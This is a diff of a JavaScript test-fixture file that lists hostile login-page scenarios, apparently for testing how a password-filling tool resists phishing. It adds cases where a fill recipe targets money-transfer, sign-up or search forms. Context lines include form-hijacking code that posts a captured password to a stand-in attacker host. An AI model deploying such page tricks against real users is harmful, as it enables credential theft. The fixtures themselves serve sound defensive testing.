@@ -26,6 +26,9 @@ const lookAlike = (name, trait, url) => attack(name, trait, LOGIN, { path: '/go'
 /** A frame of a page of ours. @param {string} name @param {string} trait @param {string} frame @param {object} [more] */
 const framed = (name, trait, frame, more = {}) => attack(name, trait, `<h1>Portal</h1>${frame}`, { path: '/', title: 'Portal', routes: { '/frame': LOGIN }, ...more });
 
+/** @param {Record<string, string>} step */
+const recipe = (step) => ({ version: 1, steps: [{ url: null, ...step }] });
+
 export default [
   styled('opacity', 'a form that is fully transparent', '#w { opacity: 0 }'),
   styled('opacity-little', 'a form that is nearly transparent', '#w { opacity: .01 }'),
@@ -83,6 +86,14 @@ export default [
   onSubmit('late-call', 'another form is sent in its place', "e.preventDefault(); const o = document.createElement('form'); o.method = 'post'; o.action = 'https://evil.lab.test/take'; o.innerHTML = '<input name=p>'; o.firstChild.value = password.value; document.body.append(o); o.submit()"),
   attack('new-password', 'a login in name whose box wants a new password', `<h1>Log in</h1>${form(`${U}<label>Password<input name="password" type="password" autocomplete="new-password"></label>${B}`)}`, { before: ['username'] }),
   attack('open-password', 'a password box in the open beside a real one', `<h1>Log in</h1><form method="post" action="https://evil.lab.test/take"><label>Username<input name="u"></label><label>Password<input type="text" name="password"></label><button>Log in</button></form><input type="password" name="real" style="opacity:0">`),
+  // What a recipe may not do: it names boxes, and makes no login of what is none.
+  attack('recipe-session', 'a recipe that drives a form of somebody’s session', `<h1>Send money</h1><p><a href="/logout">Log out</a></p>${form('<label>To account<input name="to"></label><label>Message<input name="amount"></label><button id="go">Send money now</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=to]', password: '[name=amount]', submit: '#go' }), still: true }),
+  attack('recipe-session-quiet', 'the same, and the page does not offer to log out', `<h1>Send money</h1>${form('<label>To account<input name="to"></label><label>Message<input name="amount"></label><button id="go">Send money now</button>', 'method="post" action="/do"')}`, { path: '/transfer', title: 'Send money', recipe: recipe({ username: '[name=to]', password: '[name=amount]', submit: '#go' }), still: true }),
+  attack('recipe-signup', 'a recipe that makes a login of a sign-up', `<h1>Create an account</h1>${form(`${U}${P}<button id="go">Sign up</button>`, 'method="post" action="/do"')}`, { path: '/signup', recipe: recipe({ username: '#username', password: '#password', submit: '#go' }), still: true }),
+  attack('recipe-new', 'a recipe that names a box for a new password', `<h1>Log in</h1>${form('<label>User name<input name="username"></label><label>New password<input type="password" name="fresh"></label><button>Log in</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=username]', password: '[name=fresh]' }), before: ['username'], still: true }),
+  attack('recipe-search', 'a recipe that names a search box', `<h1>Log in</h1>${form('<label>Find<input type="search" name="q"></label><button>Go</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=q]' }), still: true }),
+  attack('recipe-open', 'a recipe that names a box in the open for the password', `<h1>Log in</h1>${form('<label>User name<input name="username"></label><label>Comment<input name="text"></label><button>Log in</button>', 'method="post" action="/do"')}`, { recipe: recipe({ username: '[name=username]', password: '[name=text]' }), before: ['username'] }),
+  attack('recipe-button', 'a recipe that names a button beside the form', `<h1>Log in</h1>${form(U + P + B, 'method="post" action="/session"')}<form method="post" action="/do"><button id="go">Delete everything</button></form>`, { recipe: recipe({ username: '#username', password: '#password', submit: '#go' }), before: ['username', 'password'], still: true }),
   framed('frame-foreign', 'a frame of an origin that is not listed', '<iframe src="https://evil-frame.lab.test/login" width="400" height="300"></iframe>', { hosts: { 'evil-frame': { '/login': LOGIN } } }),
   framed('frame-sandbox', 'a frame without an origin', '<iframe src="/frame" sandbox="allow-scripts allow-forms" width="400" height="300"></iframe>'),
   framed('frame-srcdoc', 'the same, written into the page', `<iframe sandbox="allow-scripts allow-forms" width="400" height="300" srcdoc="${LOGIN.replaceAll('"', '&quot;')}"></iframe>`),
